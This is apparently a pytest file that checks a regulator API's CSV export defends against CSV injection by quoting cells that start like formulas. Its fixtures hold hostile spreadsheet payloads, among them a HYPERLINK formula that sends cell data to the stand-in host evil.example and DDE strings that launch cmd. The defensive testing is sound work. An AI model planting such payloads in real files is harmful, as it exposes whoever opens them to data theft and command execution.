"""The regulators' CSV export opens in spreadsheets: text a platform chose (order and
waybill numbers) that starts like a formula is exported with a leading ``'`` so that the
spreadsheet shows it rather than runs it (OWASP, CSV injection); the NDJSON export, which
no spreadsheet reads, keeps every value as declared."""

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from tests.support.factories import Declarations

EXPORT = "/v1/regulator/declarations/export"

# Order number → waybill number, each starting the way a formula does.
FORMULAS = {
    '=HYPERLINK("https://evil.example/?q="&A1,"Refund")': "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0": "-2+3+cmd|' /C calc'!A0",
    "=1+1": "=cmd|' /C calc'!A0",
}


def declare(client: TestClient, body: dict[str, Any], order_no: str, logistics_no: str) -> str:
    for document in ("order", "payment", "logistics"):
        body[document]["orderNo"] = order_no
    body["logistics"]["logisticsNo"] = logistics_no
    answer = client.post("/v1/declarations", json=body)
    assert answer.status_code == 202, answer.text
    declaration_id: str = answer.json()["id"]
    return declaration_id


def export(client: TestClient, fmt: str) -> str:
    answer = client.get(EXPORT, params={"format": fmt})
    assert answer.status_code == 200, answer.text
    body: str = answer.text
    return body


def csv_rows(client: TestClient) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(export(client, "csv")))}


def test_cells_that_start_like_a_formula_are_quoted_in_the_csv(
    filed_client: TestClient, declarations: Declarations
) -> None:
    ids = {
        declare(filed_client, declarations.valid(), order_no, logistics_no): (
            order_no,
            logistics_no,
        )
        for order_no, logistics_no in FORMULAS.items()
    }
    plain = declarations.valid()
    plain_id = declare(
        filed_client, plain, plain["order"]["orderNo"], plain["logistics"]["logisticsNo"]
    )

    rows = csv_rows(filed_client)
    for declaration_id, (order_no, logistics_no) in ids.items():
        assert rows[declaration_id]["orderNo"] == "'" + order_no
        assert rows[declaration_id]["logisticsNo"] == "'" + logistics_no
    # Nothing else changes: codes, amounts and times are as before.
    row = rows[plain_id]
    assert row["orderNo"] == plain["order"]["orderNo"]
    assert row["logisticsNo"] == plain["logistics"]["logisticsNo"]
    assert row["ebpCode"] == plain["order"]["ebpCode"]
    assert row["dutiableValue"][0].isdigit()
    assert row["createdAt"][0].isdigit()
    for cell in (c for r in rows.values() for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    # The NDJSON export is for programs, not spreadsheets: values as declared.
    objects = {o["id"]: o for o in map(json.loads, export(filed_client, "ndjson").splitlines())}
    for declaration_id, (order_no, logistics_no) in ids.items():
        assert objects[declaration_id]["orderNo"] == order_no
        assert objects[declaration_id]["logisticsNo"] == logistics_no


@pytest.mark.parametrize("start", ["\t", "\r", "=", "+", "-", "@"])
def test_stored_text_starting_with_any_formula_character_is_quoted(
    filed_client: TestClient, declarations: Declarations, start: str
) -> None:
    # Declarations stored before identifiers refused control characters may still hold a
    # tab or carriage return; the export quotes whatever it finds.
    body = declarations.valid()
    declaration_id = declare(
        filed_client, body, body["order"]["orderNo"], body["logistics"]["logisticsNo"]
    )
    order_no = f"{start}cmd|' /C calc'!A0"
    with filed_client.app.state.engine.begin() as connection:  # type: ignore[attr-defined]
        connection.execute(
            text("UPDATE declarations SET order_no = :order_no WHERE id = :id"),
            {"order_no": order_no, "id": declaration_id},
        )
    assert csv_rows(filed_client)[declaration_id]["orderNo"] == "'" + order_no
